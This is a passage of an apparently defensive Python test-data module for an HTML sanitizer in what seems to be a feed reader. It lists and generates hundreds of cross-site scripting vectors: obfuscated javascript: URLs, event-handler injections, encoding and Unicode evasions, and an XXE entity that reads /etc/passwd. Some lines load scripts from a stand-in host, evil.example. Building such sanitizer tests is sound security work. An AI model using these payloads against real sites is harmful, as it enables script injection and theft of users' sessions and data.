    '<picture><source type="image/webp" data-srcset="javascript:alert(1) 999w"><img></picture>',
    '<video poster="javascript:alert(1)"></video>',
    "<audio><source src=javascript:alert(1)></audio>",
    '<input type=image formaction="javascript:alert(1)" src=x>',
    "<button form=f formaction=javascript:alert(1)>x</button><form id=f>",
    "<form id=test></form><button form=test formaction=javascript:alert(1)>X</button>",
    '<input form=f type=submit formaction="java&#x09;script:alert(1)">',
    '<p style="x:\\65xpression(alert(1))">x</p>',
    "<p style=\"background-image:url('jav\\61script:alert(1)')\">x</p>",
    "<p style=\"-o-link:'javascript:alert(1)';-o-link-source:current\">x</p>",
    '<p style="animation-name:x" onanimationstart=alert(1)>x</p>',
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationend=alert(1)>x</p>',
    '<p style="list-style:url(javascript:alert(1))">x</p>',
    '<p style="content:url(javascript:alert(1))">x</p>',
    '<a style="behavior:url(#default#AnchorClick)" folder="javascript:alert(1)">x</a>',
    '<svg><a xlink:href="&#x6a;avascript:alert(1)"><text y=9>x</text></a></svg>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<img src="https://images.weserv.nl/?url=data:image/svg%2bxml,<svg onload=alert(1)>">',
    '<img src="https://i0.wp.com/javascript:alert(1)">',
    '<img src="https://proxy.example/200x,q80/javascript:alert(1)">',
    '<img src="https://example.org/_next/image?url=javascript:alert(1)&w=640">',
    '<img src="https://example.org/cdn-cgi/image/w=1/javascript:alert(1)">',
    '<img src="https://wsrv.nl/?url=javascript%3Aalert(1)">',
    '<img src="https://images.weserv.nl/?url=//evil.example/x.svg">',
    '<img src="https://images.weserv.nl/?url=ssl:evil.example/x.svg%22onerror=%22alert(1)">',
    '<img src="https://example.org/a.jpg&quot; onerror=&quot;alert(1)">',
    "<img src=\"https://example.org/a.jpg' onerror='alert(1)\">",
    '<a href="https://example.org/&quot;onmouseover=&quot;alert(1)">x</a>',
    '<a href="https://evil.example\\@example.org/">x</a>',
    '<a href="https://[::1">x</a>',
    '<a href="https://example.org/%22%3E%3Cscript%3Ealert(1)%3C/script%3E">x</a>',
    '<a href="//evil.example/x" onmouseover="alert(1)">x</a>',
    '<a href="\\\\evil.example\\x">x</a>',
    '<img src="https://example.org/a.jpg" width="1 onerror=alert(1)" height="100">',
    '<img src="https://example.org/a.jpg" width="100%" height="javascript:alert(1)">',
    '<td colspan="2 onclick=alert(1)">x</td>',
    '<ol start="1 onclick=alert(1)"><li>x</li></ol>',
    '<meta itemprop="image" content="javascript:alert(1)">',
    '<link rel="preload" as="script" href="https://evil.example/x.js">',
    '<link rel="icon" href="javascript:alert(1)">',
    '<source srcset="javascript:alert(1)">',
    '<img srcset="https://example.org/a.jpg 100w, https://example.org/b.jpg 200w,'
    ' javascript:alert(1) 300w">',
)

_ENCODING = (  # entities and encodings: markup that must stay text, or decode into nothing
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&#0000060img src=x onerror=alert(1)&#0000062",
    "&LT;img src=x onerror=alert(1)&GT;",
    "&lt &gt;img src=x onerror=alert(1)",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufeff<script>alert(1)</script>",
    "<scr\u0131pt>alert(1)</scr\u0131pt>",
    "<\u017fcript>alert(1)</\u017fcript>",
    "<script\x0c>alert(1)</script>",
    "<script\x0b>alert(1)</script>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img src=x onerror\u00a0=alert(1)>",
    "<img src=x on\x00error=alert(1)>",
    "<\x00script>alert(1)</script>",
    "<img src=x onerror=\u2028alert(1)>",
    "<img src=x onerror=alert(1)\ud800>",
    "<img src=x onerror=alert(1)\ufffe\uffff>",
    "<img\x00src=x\x00onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img\rsrc=x\ronerror=alert(1)>",
    '<IMG SRC="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72'
    '&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">',
    '<a href="&#x26;#x6a;avascript:alert(1)">x</a>',
    '<a href="jav&amp;#x61;script:alert(1)">x</a>',
    '<a href="javascript&amp;colon;alert(1)">x</a>',
    '<a href="&#X6A;&#X61;&#X76;&#X61;&#X73;&#X63;&#X72;&#X69;&#X70;&#X74;&#X3A;alert(1)">x</a>',
    '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
    '<a href="&#0000000106;avascript:alert(1)">x</a>',
    '<a href="java&#0;script:alert(1)">x</a>',
    '<a href="java&#x110000;script:alert(1)">x</a>',
    '<a href="java&#xd800;script:alert(1)">x</a>',
    '<a href="&Jfr;avascript:alert(1)">x</a>',
    '<a href="jav&#x61script:alert(1)">x</a>',
    '<a href="\u2028javascript:alert(1)">x</a>',
    '<a href="\u3000javascript:alert(1)">x</a>',
    '<a href="\u200bjavascript:alert(1)">x</a>',
    '<a href="javascript\u200b:alert(1)">x</a>',
    '<a href="java\u00adscript:alert(1)">x</a>',
    '<a href="javascript\uff1aalert(1)">x</a>',
    '<a href="j\u0430vascript:alert(1)">x</a>',
    '<a href="%6Aavascript:alert(1)">x</a>',
    '<a href="javascript%3Aalert(1)">x</a>',
    '<a href="javas%09cript:alert(1)">x</a>',
    "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>",
    "<img src=x onerror=alert&lpar;1&rpar;>",
    '<img src=x onerror="\\u0061lert(1)">',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&colon;alert(1)">x</a>',
    '<?xml version="1.0" encoding="UTF-7"?>+ADw-img src=x onerror=alert(1)+AD4-',
    '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<!DOCTYPE x [<!ENTITY e "<script>alert(1)</script>">]>&e;',
    '&e;<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
)


# Protocol obfuscation, as a cross product: hostile URLs x the places a URL can hide.
_HOSTILE_URLS = (
    ("plain", "javascript:alert(1)"),
    ("case", "JaVaScRiPt:alert(1)"),
    ("dec-entity", "&#106;avascript:alert(1)"),
    ("hex-entity", "&#x6A;avascript:alert(1)"),
    ("colon-entity", "javascript&#x3a;alert(1)"),
    ("colon-named", "javascript&colon;alert(1)"),
    ("padded-entity", "javascript&#0000058alert(1)"),
    ("tab", "java\tscript:alert(1)"),
    ("newline", "java\nscript:alert(1)"),
    ("cr", "java\rscript:alert(1)"),
    ("tab-named", "java&Tab;script:alert(1)"),
    ("newline-named", "java&NewLine;script:alert(1)"),
    ("nul", "java\x00script:alert(1)"),
    ("lead-c0", "\x01\x02javascript:alert(1)"),
    ("lead-space-ff", " \x0cjavascript:alert(1)"),
    ("lead-entity-space", "&#x20;javascript:alert(1)"),
    ("mid-entity", "javas&#x63;ript:alert(1)"),
    ("vbscript", "vbscript:msgbox(1)"),
    ("livescript", "livescript:alert(1)"),
    ("data-html", "data:text/html,<script>alert(1)</script>"),
    ("data-b64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("data-svg", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"),
    ("data-case", "DaTa:text/html,<svg onload=alert(1)>"),
    ("comment", "javascript:/*https://example.org/*/alert(1)"),
    ("percent", "javascript:%61lert(1)"),
)
_URL_CARRIERS = (
    ("a-href", '<a href="{u}">x</a>'),
    ("a-href-single", "<a href='{u}'>x</a>"),
    ("img-src", '<img src="{u}">'),
    ("img-srcset", '<img srcset="{u} 2x">'),
    ("ok-href", '<ok href="{u}">x</ok>'),
    ("svg-xlink", '<svg><a xlink:href="{u}"><text y="9">x</text></a></svg>'),
    ("formaction", '<form><button formaction="{u}">x</button></form>'),
    ("iframe-src", '<iframe src="{u}"></iframe>'),
    ("form-action", '<form action="{u}"><input type=submit></form>'),
    ("math-href", '<math><mi href="{u}">x</mi></math>'),
    ("object-data", '<object data="{u}"></object>'),
    ("embed-src", '<embed src="{u}">'),
    ("area-href", '<map name=m><area shape=rect coords="0,0,9,9" href="{u}"></map>'),
    ("video-poster", '<video poster="{u}"></video>'),
    ("blockquote-cite", '<blockquote cite="{u}">q</blockquote>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url={u}">'),
    ("base-href", '<base href="{u}"><a href="x">x</a>'),
    ("link-href", '<link rel="stylesheet" href="{u}">'),
    ("img-data-src", '<img data-src="{u}">'),
    ("picture-source", '<picture><source srcset="{u}"><img></picture>'),
    ("a-unquoted", "<a href={u}>x</a>"),
)
# Every hostile URL goes into these carriers; every carrier gets these URLs.
_CORE_CARRIERS = frozenset(
    {"a-href", "img-src", "img-srcset", "ok-href", "svg-xlink", "formaction"}
)
_CORE_URLS = frozenset({"plain", "hex-entity", "tab", "data-html"})


# Event handlers, as a cross product: tags x handlers, with separators and value forms rotating.
_HANDLER_TAGS = (
    "img src=x", "svg", "body", "details open", "video src=x", "audio src=x",
    "input autofocus", "select autofocus", "textarea autofocus", "iframe", "object data=x",
    "marquee", "div", "a href=https://example.org/", "p", "image src=x", "x-widget",
    "ok href=https://example.org/", "style", "table background=x",
)  # fmt: skip
_HANDLERS = (
    "onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart",
    "onbegin", "onpointerover", "onbeforetoggle", "onfocusin", "onauxclick", "OnErRoR",
    "ONLOAD",
)  # fmt: skip
_SEPARATORS = (" ", "/", "\n", "\t", "\x0c", '/"x"/', " x=1 ", "/**/")
_HANDLER_VALUES = (
    "alert(1)",
    '"alert(1)"',
    "'alert(1)'",
    "`alert(1)`",
    '"&#97;lert(1)"',
    '"alert&lpar;1&rpar;"',
    "\"eval(atob('YWxlcnQoMSk='))\"",
    '"javascript:alert(1)"',
)


def _generated_url_vectors() -> list[Vector]:
    vectors: list[Vector] = []
    for carrier, template in _URL_CARRIERS:
        for label, url in _HOSTILE_URLS:
            if carrier in _CORE_CARRIERS or label in _CORE_URLS:
                vectors.append(Vector(f"proto-{carrier}-{label}", "proto", template.format(u=url)))
    return vectors


def _generated_handler_vectors() -> list[Vector]:
    vectors: list[Vector] = []
    for i, tag in enumerate(_HANDLER_TAGS):
        name = tag.split()[0]
        for j, handler in enumerate(_HANDLERS):
            if (i + j) % 2:  # half the grid, but every tag and every handler, both parities
                continue
            separator = _SEPARATORS[(i + j) % len(_SEPARATORS)]
            value = _HANDLER_VALUES[(i * 3 + j) % len(_HANDLER_VALUES)]
            html = f"<{tag}{separator}{handler}={value}>x</{name}>"
            vectors.append(Vector(f"handler-{name}-{handler}", "handler", html))
    return vectors


def _corpus() -> tuple[Vector, ...]:
    written = [
        Vector(f"{kind}-{n:03d}", kind, html)
        for kind, group in (
            ("evasion", _EVASION),
            ("suite", _SUITE),
            ("mxss", _MUTATION),
            ("svg-math", _SVG_MATH),
            ("attr", _ATTRIBUTES),
            ("encoding", _ENCODING),
        )
        for n, html in enumerate(group)
    ]
    # The grids re-create a few HOSTILE_VECTORS; those are left out, so every vector is new.
    seen = set(HOSTILE_VECTORS)
    corpus: list[Vector] = []
    for vector in written + _generated_url_vectors() + _generated_handler_vectors():
        if vector.html not in seen:
            seen.add(vector.html)
            corpus.append(vector)
    return tuple(corpus)


XSS_CORPUS: tuple[Vector, ...] = _corpus()

# Strings that must stay text wherever a title, author, outlet or category name is shown.
HOSTILE_TEXTS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</name></author><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;svg onload=alert(1)&#62;",
    "<!-- x --><b onmouseover=alert(1)>bold</b>",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "javascript:alert(1)",
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
    "&x; &amp; & &lt &#0; &#xd800;",
    "</textarea></style></noscript><svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a> 朝鲜 金正恩',
    '</outline><outline text="x" xmlUrl="javascript:alert(1)"/>',
    '</li><li><a href="javascript:alert(1)">x</a>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "x\x00<script>\x01alert(1)\x1f</script>\ufffe",
    "\u2028<img src=x onerror=alert(1)>\u2029",
)
